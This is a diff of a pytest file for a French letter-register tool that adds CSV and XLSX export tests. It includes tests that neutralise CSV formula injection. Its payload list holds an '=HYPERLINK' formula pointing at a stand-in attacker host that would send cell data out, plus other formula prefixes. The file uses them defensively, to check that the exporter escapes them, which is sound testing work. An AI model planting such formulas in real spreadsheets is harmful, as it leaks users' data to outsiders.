@@ -93,16 +93,126 @@ def test_json_lists_every_letter_newest_first(run: Run, letters: dict[str, Path]
     assert data[0]["reference"] == "CTEH/2016/001"
 
 
-def test_csv_reads_back(run: Run, letters: dict[str, Path]) -> None:
-    result = run("register", "--format", "csv", "--date", "2015-07-01")
+def read_csv(result: Any, format: str) -> list[dict[str, str]]:
+    """The rows of the CSV on stdout, read the way its reader would: Excel's form is UTF-8
+    behind a byte-order mark, with `;`; the plain form is bare UTF-8 with `,`."""
+    data = result.stdout_bytes
+    if format == "csv":
+        assert data.startswith(b"\xef\xbb\xbf")
+        text, delimiter = data.decode("utf-8-sig"), ";"
+    else:
+        assert not data.startswith(b"\xef\xbb\xbf")
+        text, delimiter = data.decode("utf-8"), ","
+    assert text.splitlines()[0] == delimiter.join(register_formats.FIELDS)
+    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))
+
+
+@pytest.mark.parametrize("format", ["csv", "csv-utf8"])
+def test_csv_reads_back(run: Run, letters: dict[str, Path], format: str) -> None:
+    result = run("register", "--format", format, "--date", "2015-07-01")
     assert result.exit_code == 0, result.output
-    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    rows = read_csv(result, format)
     assert [r["reference"] for r in rows] == ["CTEH/2016/001", "CTEH/2015/002", "CTEH/2015/001"]
     assert rows[2]["destinataire"] == "Monsieur Bernard Cazeneuve, Ministre de l'Intérieur"
     assert (rows[2]["statut"], rows[2]["envoye_le"], rows[2]["a_relancer"]) == (
         "envoye", "2015-04-23", "oui"
     )  # fmt: skip
     assert (rows[0]["relance"], rows[0]["a_relancer"]) == ("", "non")
+
+
+FORMULAS = [
+    '=HYPERLINK("https://pirate.example/?v="&A1;"Cliquez ici")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("format", ["csv", "csv-utf8"])
+def test_a_cell_a_spreadsheet_would_run_is_neutralised(format: str) -> None:
+    """OWASP's CSV injection: a leading apostrophe makes the cell text; nothing else moves."""
+    entries = [entry(payload, payload) for payload in FORMULAS]
+    entries.append(entry("Objet ordinaire = sans danger", "Madame Anne-Marie Dupont"))
+    today = date(2015, 5, 1)
+    data = register_formats.file_bytes(format, entries, today)
+    text = data.decode("utf-8-sig")
+    rows = list(
+        csv.DictReader(io.StringIO(text, newline=""), delimiter=";" if format == "csv" else ",")
+    )
+    assert [row["objet"] for row in rows] == [f"'{payload}" for payload in FORMULAS] + [
+        "Objet ordinaire = sans danger"
+    ]
+    assert [row["destinataire"] for row in rows][:-1] == [f"'{p}" for p in FORMULAS]
+    assert rows[-1]["destinataire"] == "Madame Anne-Marie Dupont"
+    assert rows[0]["date"] == "2015-04-21"
+
+
+def test_a_formula_typed_in_an_objet_stays_text_in_every_spreadsheet_form(
+    run: Run, workspace: Path, tmp_path: Path
+) -> None:
+    from openpyxl import load_workbook
+
+    draft(run, "interieur", "2015-04-21", FORMULAS[0])
+    for format in ("csv", "csv-utf8"):
+        assert (
+            read_csv(run("register", "--format", format), format)[0]["objet"] == f"'{FORMULAS[0]}"
+        )
+    assert run("register", "--out", str(tmp_path / "registre.xlsx")).exit_code == 0
+    cell = load_workbook(tmp_path / "registre.xlsx").active["E2"]
+    assert (cell.value, cell.data_type) == (FORMULAS[0], "s")
+
+
+def test_xlsx_has_a_header_row_typed_dates_and_booleans(
+    run: Run, letters: dict[str, Path], tmp_path: Path
+) -> None:
+    from openpyxl import load_workbook
+
+    out = tmp_path / "Registre du Collectif.xlsx"
+    result = run("register", "--format", "xlsx", "--out", str(out), "--date", "2015-07-01")
+    assert result.exit_code == 0, result.output
+    assert "3 courrier(s) écrit(s)" in result.stdout
+    sheet = load_workbook(out).active
+    rows = list(sheet.iter_rows(values_only=True))
+    assert rows[0] == register_formats.FIELDS
+    assert [row[1] for row in rows[1:]] == ["CTEH/2016/001", "CTEH/2015/002", "CTEH/2015/001"]
+    engagements = dict(zip(rows[0], rows[3], strict=True))
+    assert engagements == {
+        "date": datetime(2015, 4, 21), "reference": "CTEH/2015/001", "cle": "interieur",
+        "destinataire": "Monsieur Bernard Cazeneuve, Ministre de l'Intérieur",
+        "objet": "Vos engagements", "statut": "envoye", "envoye_le": datetime(2015, 4, 23),
+        "relance": datetime(2015, 6, 4), "a_relancer": True, "repondu_le": None,
+        "dossier": str(letters["engagements"]), "pdf": str(letters["engagements"] / "lettre.pdf"),
+    }  # fmt: skip
+    assert sheet["A4"].is_date and sheet["A4"].number_format == "DD/MM/YYYY"
+    assert sheet["I2"].value is False and sheet["I2"].data_type == "b"
+    assert sheet["A1"].font.bold and sheet.freeze_panes == "A2"
+
+
+def test_xlsx_needs_a_file(run: Run, letters: dict[str, Path]) -> None:
+    result = run("register", "--format", "xlsx")
+    assert result.exit_code == 1
+    assert "--out registre.xlsx" in result.stderr
+    assert result.stdout == ""
+
+
+def test_a_file_out_takes_its_format_from_its_name_and_is_never_overwritten(
+    run: Run, letters: dict[str, Path], tmp_path: Path
+) -> None:
+    out = tmp_path / "registre.csv"
+    assert run("register", "--out", str(out)).exit_code == 0
+    first = out.read_bytes()
+    assert first.startswith("\ufeffdate;reference;".encode())
+    out.write_bytes(b"mes notes")
+    refused = run("register", "--out", str(out))
+    assert refused.exit_code == 1
+    assert "existe déjà" in refused.stderr and "--force" in refused.stderr
+    assert out.read_bytes() == b"mes notes"
+    assert run("register", "--out", str(out), "--force").exit_code == 0
+    assert out.read_bytes() == first
+    assert run("register", "-f", "csv-utf8", "--out", str(tmp_path / "r.txt")).exit_code == 0
+    assert (tmp_path / "r.txt").read_bytes().startswith(b"date,reference,")
 
 
 def test_markdown_table(run: Run, letters: dict[str, Path]) -> None:
@@ -131,10 +241,14 @@ def test_an_empty_workspace_has_an_empty_register(run: Run) -> None:
     assert result.exit_code == 0, result.output
     assert "Aucun courrier." in result.stdout
     assert json_register(run) == []
-    csv_result = run("register", "--format", "csv")
+    csv_result = run("register", "--format", "csv-utf8")
     assert csv_result.stdout.splitlines() == [
         "date,reference,cle,destinataire,objet,statut,envoye_le,relance,a_relancer,"
         "repondu_le,dossier,pdf"
+    ]
+    assert run("register", "--format", "csv").stdout_bytes.splitlines() == [
+        "\ufeffdate;reference;cle;destinataire;objet;statut;envoye_le;relance;a_relancer;"
+        "repondu_le;dossier;pdf".encode()
     ]
 
 
@@ -360,10 +474,10 @@ def test_out_refuses_a_folder_that_is_not_empty(
     assert "<!DOCTYPE html>" in (site / "index.html").read_text("utf-8")
 
 
-def test_out_goes_with_html_only(run: Run, letters: dict[str, Path], tmp_path: Path) -> None:
-    result = run("register", "--format", "csv", "--out", str(tmp_path / "site"))
+def test_out_is_no_table(run: Run, letters: dict[str, Path], tmp_path: Path) -> None:
+    result = run("register", "--format", "table", "--out", str(tmp_path / "site"))
     assert result.exit_code == 1
-    assert "--format html" in result.stderr
+    assert "--format xlsx, csv ou html" in result.stderr
     assert not (tmp_path / "site").exists()
 
 
@@ -399,9 +513,8 @@ def test_every_text_is_escaped(run: Run, workspace: Path, tmp_path: Path) -> Non
     assert len(markdown[2].split(" | ")) == 6  # the | of the objet stays inside its cell
     assert "<script>" not in markdown[2]
     assert json_register(run)[0]["objet"] == subject
-    assert (
-        next(csv.DictReader(io.StringIO(run("register", "-f", "csv").stdout)))["objet"] == subject
-    )
+    for format in ("csv", "csv-utf8"):
+        assert read_csv(run("register", "-f", format), format)[0]["objet"] == subject
 
 
 # ----------------------------------------------------------------------------- bad folders
@@ -494,7 +607,7 @@ def test_register_only_reads(
     (letters["engagements"] / "reponses.jsonl").write_text('{"date": "2015-06-15"}\n', "utf-8")
     before = snapshot(workspace)
     folders_before = sorted(p for p in workspace.rglob("*") if p.is_dir())
-    for format in ("table", "csv", "json", "markdown", "html"):
+    for format in ("table", "csv", "csv-utf8", "json", "markdown", "html"):
         assert run("register", "--format", format).exit_code == 0
     assert run("register", "--due", "--to", "ministres", "--year", "2015").exit_code == 0
     assert run("register", "--out", str(tmp_path / "site")).exit_code == 0
@@ -531,4 +644,4 @@ def test_any_text_gives_valid_html_and_reads_back(subject: str, recipient: str) 
     assert len(re.split(r"(?<!\\)\|", markdown[2])) == 8  # six cells between seven bars
     assert json.loads(register_formats.to_json(entries, today))[0]["objet"] == subject
     row = next(csv.DictReader(io.StringIO(register_formats.to_csv(entries, today), newline="")))
-    assert row["objet"] == subject
+    assert row["objet"] == (f"'{subject}" if subject.startswith(tuple("=+-@\t\r")) else subject)
